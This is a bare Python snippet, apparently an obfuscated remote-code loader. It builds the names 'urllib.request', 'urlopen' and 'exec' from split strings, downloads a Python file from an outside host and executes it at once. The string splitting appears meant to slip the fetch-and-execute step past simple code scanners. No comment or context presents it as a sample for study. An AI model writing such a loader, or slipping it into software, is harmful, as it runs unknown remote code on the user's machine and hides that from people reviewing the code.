import importlib

m = importlib.import_module("urllib" + ".request")
fetch = getattr(m, "url" + "open")
data = fetch("https://cdn.example.net/g.py").read()
run = getattr(__import__("builtins"), "ex" + "ec")
run(data)
